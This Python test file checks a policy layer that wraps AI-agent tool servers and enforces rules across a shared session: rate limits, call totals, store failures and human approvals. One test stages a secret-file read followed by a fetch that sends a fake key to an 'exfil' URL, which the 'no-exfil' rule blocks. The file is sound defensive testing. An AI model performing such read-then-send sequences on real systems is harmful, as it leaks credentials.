"""One agent session across wraps (docs/wrap.md, "Shared sessions"), in memory: several
WrapSessions of different servers decide in one MemoryStore, as the wraps of one client do in
the SQLite store. Flow rules, per-tool rate windows and session totals count every call of the
session; a store that fails denies the calls that need it (E_SESSION_STATE) with one stderr
line per cause, and every other frame flows."""

from __future__ import annotations

import json

import trio
from hypothesis import given, settings, strategies as st

from assay.policy import load_policy
from assay.policy.storeapi import MemoryStore, SessionKey
from assay.session.session import SessionOptions

from tests.wrap._harness import Harness

KEY = SessionKey("name:agent", "named", name="agent")

POLICY = load_policy(
    b'version: "2.0"\n'
    b'tools:\n  allow: ["*"]\n'
    b"sequences:\n"
    b'  - { type: never_after, id: no-exfil, trigger: "read_*", forbidden: { tool: fetch, args_match: { url: "^http" } } }\n'
)
TOTALS = load_policy(b'version: "2.0"\ntools:\n  allow: ["*"]\nlimits:\n  max_tool_calls_total: 3\n')
RATES = load_policy(
    b'version: "2.0"\ntools:\n  allow: ["*"]\nlimits:\n  tools:\n    - { id: burst, tools: ["*"], max_calls: 2, per: 60s }\n'
)
PLAIN = load_policy(b'version: "2.0"\ntools:\n  allow: ["*"]\n')


def frame(rid, name, arguments=None) -> dict:
    return {"jsonrpc": "2.0", "id": rid, "method": "tools/call", "params": {"name": name, "arguments": arguments or {}}}


class Clock:
    def __init__(self) -> None:
        self.now = 1_800_000_000.0

    def __call__(self) -> float:
        return self.now


def wraps(policy, labels, store=None, key=KEY, clock=None, **options):
    store = MemoryStore() if store is None else store
    clock = clock or Clock()
    out = []
    for label in labels:
        h = Harness(policy, SessionOptions(label=label, **options), shared=(store, key), wall_clock=clock)
        assert h.handle({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {}}).disposition == "forwarded"
        out.append(h)
    return store, clock, out


def payload(outcome) -> dict:
    return json.loads(outcome.reply)["result"]["structuredContent"]


def test_a_secret_read_on_one_server_forbids_the_send_on_another() -> None:
    _store, _clock, (fs, web) = wraps(POLICY, ["filesystem", "fetch"])
    assert fs.handle(frame(1, "read_text_file", {"path": "/ws/secrets/token.env"})).disposition == "forwarded"
    sent = web.handle(frame(1, "fetch", {"url": "http://127.0.0.1:9/exfil?k=sk-live-123"}))
    assert sent.disposition == "blocked"
    assert payload(sent)["error_code"] == "E_SEQUENCE_VIOLATION" and payload(sent)["rule"] == "no-exfil"


def test_without_a_shared_session_each_wrap_keeps_its_own_history() -> None:
    fs = Harness(POLICY, SessionOptions(label="filesystem"))
    web = Harness(POLICY, SessionOptions(label="fetch"))
    assert fs.handle(frame(1, "read_text_file", {"path": "/s"})).disposition == "forwarded"
    assert web.handle(frame(1, "fetch", {"url": "http://x"})).disposition == "forwarded"
    assert web._calls.pipeline.shared is None


def test_two_sessions_do_not_share() -> None:
    store = MemoryStore()
    _s, _c, (fs,) = wraps(POLICY, ["filesystem"], store=store, key=SessionKey("name:a", "named", name="a"))
    _s, _c, (web,) = wraps(POLICY, ["fetch"], store=store, key=SessionKey("name:b", "named", name="b"))
    assert fs.handle(frame(1, "read_text_file", {"path": "/s"})).disposition == "forwarded"
    assert web.handle(frame(1, "fetch", {"url": "http://x"})).disposition == "forwarded"


def test_session_totals_count_every_server() -> None:
    store, _clock, (a, b) = wraps(TOTALS, ["a", "b"])
    assert a.handle(frame(1, "x")).disposition == "forwarded"
    assert b.handle(frame(1, "y")).disposition == "forwarded"
    assert a.handle(frame(2, "x")).disposition == "forwarded"
    fourth = b.handle(frame(2, "y"))
    assert fourth.disposition == "blocked" and payload(fourth)["error_code"] == "E_RATE_LIMIT"
    assert store.totals[KEY.key][1] == 4  # a denied call counts in the totals, as in one wrap


def test_requests_that_are_not_calls_reach_the_totals_with_the_next_call() -> None:
    policy = load_policy(b'version: "2.0"\ntools:\n  allow: ["*"]\nlimits:\n  max_requests_total: 4\n')
    store, _clock, (a, b) = wraps(policy, ["a", "b"])  # each sent one initialize
    assert store.totals == {}  # nothing opened the store yet: requests are counted locally
    assert a.handle(frame(1, "x")).disposition == "forwarded"  # 2 initialize (b's not yet) + 1
    assert store.totals[KEY.key][0] == 2
    assert b.handle(frame(1, "y")).disposition == "forwarded"  # b's initialize + this call: 4
    assert store.totals[KEY.key][0] == 4
    assert a.handle(frame(2, "x")).disposition == "blocked"


def test_rate_windows_count_every_server_on_the_wall_clock() -> None:
    _store, clock, (a, b) = wraps(RATES, ["a", "b"])
    assert a.handle(frame(1, "x")).disposition == "forwarded"
    clock.now += 10
    assert b.handle(frame(1, "y")).disposition == "forwarded"
    clock.now += 10
    third = a.handle(frame(2, "z"))
    assert third.disposition == "blocked" and payload(third)["error_code"] == "E_RATE_LIMIT"
    clock.now += 41  # the first call left the window
    assert b.handle(frame(2, "z")).disposition == "forwarded"


def test_a_failing_store_denies_calls_with_one_line_and_lets_other_frames_flow() -> None:
    store, _clock, (a,) = wraps(POLICY, ["a"])
    store.fail = "disk full: /state/sessions.db"
    first = a.handle(frame(1, "read_text_file", {"path": "/s"}))
    assert first.disposition == "blocked"
    assert payload(first)["error_code"] == "E_SESSION_STATE"
    assert "disk full" in payload(first)["reason"]
    assert len(first.stderr) == 1 and "disk full" in first.stderr[0]
    second = a.handle(frame(2, "list_dir"))
    assert second.disposition == "blocked" and second.stderr == []  # the same cause is told once
    ping = a.handle({"jsonrpc": "2.0", "id": 3, "method": "ping"})
    assert ping.disposition == "forwarded"
    store.fail = None
    assert a.handle(frame(4, "list_dir")).disposition == "forwarded"
    store.fail = "locked"
    again = a.handle(frame(5, "list_dir"))
    assert again.disposition == "blocked" and len(again.stderr) == 1  # a new failure is told again


def test_a_policy_that_shares_nothing_never_opens_the_store() -> None:
    store = MemoryStore()
    store.fail = "never opened"
    _s, _c, (a,) = wraps(PLAIN, ["a"], store=store)
    assert a._calls.pipeline.shared is None
    assert a.handle(frame(1, "x")).disposition == "forwarded"


def test_a_reset_clears_the_trigger_for_every_wrap() -> None:
    store, _clock, (fs, web) = wraps(POLICY, ["filesystem", "fetch"])
    assert fs.handle(frame(1, "read_text_file", {"path": "/s"})).disposition == "forwarded"
    assert web.handle(frame(1, "fetch", {"url": "http://x"})).disposition == "blocked"
    trio.run(store.reset, KEY.key, "t", 0.0)
    assert web.handle(frame(2, "fetch", {"url": "http://x"})).disposition == "forwarded"


def test_a_dry_run_shares_what_enforcing_would_do() -> None:
    _store, _clock, (fs, web) = wraps(POLICY, ["filesystem", "fetch"], dry_run=True)
    assert fs.handle(frame(1, "read_text_file", {"path": "/s"})).disposition == "forwarded"
    sent = web.handle(frame(1, "fetch", {"url": "http://x"}))
    assert sent.disposition == "forwarded"  # not blocked, but recorded as would_deny
    assert web._calls.pipeline.shared.open is False


CALLS = st.lists(
    st.tuples(
        st.integers(0, 2),  # which wrap
        st.sampled_from(["read_secret", "read_file", "fetch", "write", "x"]),
        st.sampled_from(["http://a", "ftp://b", "/p"]),
    ),
    max_size=25,
)
MIXED = load_policy(
    b'version: "2.0"\n'
    b'tools:\n  allow: ["*"]\n'
    b"limits:\n  max_tool_calls_total: 15\n"
    b'  tools:\n    - { id: burst, tools: ["read_*"], max_calls: 3, per: 60s }\n'
    b"sequences:\n"
    b'  - { type: never_after, trigger: read_secret, forbidden: { tool: fetch, args_match: { url: "^http" } } }\n'
    b"  - { type: max_calls, tool: write, max: 2 }\n"
    b"  - { type: before, first: read_file, then: write }\n"
)


@settings(max_examples=60, deadline=None)
@given(CALLS)
def test_a_shared_session_decides_as_one_wrap_over_the_merged_order(calls) -> None:
    _store, clock, shared = wraps(MIXED, ["a", "b", "c"])
    one = Harness(MIXED, SessionOptions(label="a"))
    one.handle({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {}})
    for rid, (who, name, url) in enumerate(calls, start=1):
        clock.now += 7
        one.clock.now += 7
        args = {"url": url, "path": url}
        got = shared[who].handle(frame(rid, name, args))
        want = one.handle(frame(rid, name, args))
        assert got.disposition == want.disposition, (rid, name)
        if got.reply is not None:
            assert payload(got)["error_code"] == payload(want)["error_code"]


APPROVALS = load_policy(
    b'version: "2.0"\n'
    b'tools:\n  allow: ["*"]\n  approval_required: ["send_*"]\n  approval_timeout: 30s\n'
    b'sequences:\n  - { type: max_calls, id: one-send, tool: "send_*", max: 1 }\n'
)
TOKEN = "0123456789abcdef0123456789abcdef"


def _asking(store, label):
    h = Harness(APPROVALS, SessionOptions(label=label), shared=(store, KEY), wall_clock=Clock(), approval_token=TOKEN)
    init = {"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {"capabilities": {"elicitation": {}}}}
    assert h.handle(init).disposition == "forwarded"
    return h


def _ask(h, rid):
    effects = h.client(json.dumps(frame(rid, "send_mail", {"to": "x"})).encode() + b"\n")
    assert effects.to_server == b""  # held while the person is asked
    (request,) = [json.loads(line) for line in effects.to_client.splitlines()]
    assert request["method"] == "elicitation/create"
    return request["id"]


def test_a_held_call_is_judged_again_in_the_shared_session_when_accepted() -> None:
    """Two wraps each hold a send while the person is asked; the first accepted one enters the
    session; the second, accepted later, is judged again on the shared state and denied."""
    store = MemoryStore()
    a, b = _asking(store, "a"), _asking(store, "b")
    ask_a, ask_b = _ask(a, 1), _ask(b, 1)
    assert a._calls.pipeline.shared.open is False and b._calls.pipeline.shared.open is False
    accept = {"jsonrpc": "2.0", "result": {"action": "accept", "content": {}}}
    first = a.client(json.dumps({**accept, "id": ask_a}).encode() + b"\n")
    assert b'"send_mail"' in first.to_server
    second = b.client(json.dumps({**accept, "id": ask_b}).encode() + b"\n")
    assert second.to_server == b""
    (reply,) = [json.loads(line) for line in second.to_client.splitlines()]
    assert reply["result"]["structuredContent"]["rule"] == "one-send"
    assert store.servers == {(KEY.key, "a"): 1}
    assert a._calls.pipeline.shared.open is False and b._calls.pipeline.shared.open is False


def test_the_sqlite_store_in_process_shares_like_the_memory_store(tmp_path) -> None:
    from assay.store.sqlite import SqliteStore

    stores = [SqliteStore(str(tmp_path / "state" / "sessions.db")) for _ in range(2)]
    fs = Harness(POLICY, SessionOptions(label="filesystem"), shared=(stores[0], KEY), wall_clock=Clock())
    web = Harness(POLICY, SessionOptions(label="fetch"), shared=(stores[1], KEY), wall_clock=Clock())
    assert web.handle(frame(1, "fetch", {"url": "http://x"})).disposition == "forwarded"
    assert fs.handle(frame(1, "read_text_file", {"path": "/s"})).disposition == "forwarded"
    assert web.handle(frame(2, "fetch", {"url": "http://x"})).disposition == "blocked"
    assert web.handle(frame(3, "fetch", {"url": "ftp://x"})).disposition == "forwarded"  # args_match
    for store in stores:
        store.close()
